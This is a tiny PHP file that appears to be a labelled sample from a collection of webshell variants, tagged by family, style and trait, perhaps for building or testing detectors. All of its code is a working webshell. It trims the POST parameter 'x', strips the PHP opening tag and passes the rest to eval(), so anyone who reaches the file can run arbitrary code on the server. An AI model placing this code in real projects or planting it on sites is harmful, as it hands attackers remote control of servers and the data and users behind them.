<?php
// Family: webshell/eval-request
// Style: evaluator through an intermediate variable
// Trait: request value copied to a variable and trimmed before evaluation
$payload = trim($_POST["x"]);
$payload = str_replace("<?php", "", $payload);
eval($payload);
